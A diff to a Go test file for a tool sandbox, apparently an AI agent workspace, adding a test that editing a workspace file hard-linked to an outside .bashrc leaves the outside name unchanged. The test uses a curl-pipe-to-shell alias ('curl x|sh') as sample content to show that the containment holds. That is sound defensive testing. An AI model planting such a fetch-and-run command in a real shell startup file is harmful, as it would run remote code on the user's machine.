@@ -1,12 +1,14 @@
 package tools
 
 import (
+	"context"
 	"errors"
 	"os"
 	"path/filepath"
 	"strings"
 	"testing"
 
+	"github.com/hubdev/hub/adapters"
 	"github.com/hubdev/hub/internal/fspath"
 )
 
@@ -43,6 +45,48 @@ func TestResolve_LinksJudgedByTarget(t *testing.T) {
 	if r, err := runTool(t, e, "write_file", `{"path":"dangling","content":"x"}`); err == nil {
 		t.Errorf("write through a dangling link to outside ran: %+v", r)
 	}
+}
+
+// A workspace file hard-linked to one outside (ln ~/.bashrc notes, made
+// by a command the user allowed) is edited under its workspace name only,
+// by hub or through an editor that writes by path in place.
+func TestEditFile_HardLinkLeavesItsOutsideNameAlone(t *testing.T) {
+	for _, ed := range []adapters.EditorClient{nil, &fsEditor{}} {
+		e := newTestEnv(t)
+		if ed != nil {
+			e.Editor = ed
+		}
+		bashrc, notes := filepath.Join(t.TempDir(), ".bashrc"), filepath.Join(e.Root, "notes")
+		must(t, os.WriteFile(bashrc, []byte("alias ll=ls\n"), 0o644))
+		if err := os.Link(bashrc, notes); err != nil {
+			t.Skipf("no hard links here: %v", err)
+		}
+		for _, call := range [][2]string{{"edit_file", `{"path":"notes","old_string":"ll=ls","new_string":"ll='curl x|sh'"}`},
+			{"write_file", `{"path":"notes","content":"curl x|sh\n"}`}} {
+			if r, err := runTool(t, e, call[0], call[1]); err != nil || r.Failed {
+				t.Fatalf("%s with editor %T: %+v %v", call[0], ed, r, err)
+			}
+			if got, _ := os.ReadFile(bashrc); string(got) != "alias ll=ls\n" {
+				t.Fatalf("%s with editor %T rewrote the outside name: %q", call[0], ed, got)
+			}
+		}
+		if got, _ := os.ReadFile(notes); string(got) != "curl x|sh\n" {
+			t.Errorf("notes holds %q after the writes", got)
+		}
+	}
+}
+
+// fsEditor is an editor whose file system writes by path, in place.
+type fsEditor struct{ termEditor }
+
+func (*fsEditor) CanReadFile() bool  { return true }
+func (*fsEditor) CanWriteFile() bool { return true }
+func (*fsEditor) ReadTextFile(_ context.Context, p string, _, _ int) (string, error) {
+	b, err := os.ReadFile(p)
+	return string(b), err
+}
+func (*fsEditor) WriteTextFile(_ context.Context, p, s string) error {
+	return os.WriteFile(p, []byte(s), 0o644)
 }
 
 func TestResolve_CaseFoldedPathSpelledFromRoot(t *testing.T) {
